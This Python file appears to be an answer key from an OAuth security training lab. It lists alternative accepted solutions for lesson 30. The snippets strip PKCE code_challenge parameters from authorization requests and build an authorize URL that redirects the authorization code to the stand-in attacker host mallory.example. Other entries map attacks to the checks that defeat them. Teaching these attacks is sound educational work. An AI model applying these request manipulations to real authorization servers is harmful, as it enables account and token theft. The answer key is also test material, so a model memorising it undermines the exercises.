"""Right answers to the exercises of lesson 30 that are not our own."""

from __future__ import annotations

from jwtlab import exercises

_SOLUTION = {each.id: each.solution for each in exercises.lesson("30").exercises}

OTHERS: dict[str, list[str]] = {
    "30.1": [
        "def answer(step):\n    if step.request.path == '/authorize':\n        return step.request.changed(code_challenge=None)",
        "def answer(step):\n    if 'authorize' in step.request.path:\n"
        "        return step.request.changed(code_challenge_method=None, code_challenge=None)",
        "from dataclasses import replace\nimport re\ndef answer(step):\n"
        "    if 'code_challenge=' in step.request.url:\n"
        "        return replace(step.request, url=re.sub('&code_challenge(_method)?=[^&]*', '', step.request.url))",
        "def answer(step):\n    names = [name for name, _ in step.request.query if name.startswith('code_challenge')]\n"
        "    return step.request.changed(**dict.fromkeys(names)) if names else None",
    ],
    "30.2": [
        _SOLUTION["30.2"] + "\nanswer = list(answer)",
        _SOLUTION["30.2"].replace('"scope": "profile notes:read",', '"scope": "notes:read", "state": "x",'),
        "import base64\nverifier = 'mallory-' * 8\n"
        "c = base64.urlsafe_b64encode(__import__('hashlib').sha256(verifier.encode()).digest()).decode().rstrip('=')\n"
        "answer = ('https://as.example/authorize?response_type=code&client_id=phone-app&redirect_uri='\n"
        "          'https%3A%2F%2Fmallory.example%2Fcallback&scope=profile%20notes%3Aread&code_challenge=' + c\n"
        "          + '&code_challenge_method=S256', verifier)",
    ],
    "30.3": [
        _SOLUTION["30.3"]
        + "\nanswer |= {'code-injection': 'nonce-matches', 'magic-link-reuse': 'link-unused'}",
        _SOLUTION["30.3"]
        + "\nanswer |= {'id-token-at-api': 'API:audience-expected', 'scanner-prefetch': 'link-browser'}",
        _SOLUTION["30.3"]
        + "\nanswer |= {'logout-token-forgery': 'logout-without-nonce', 'code-replay': ' code-unused '}",
    ],
}
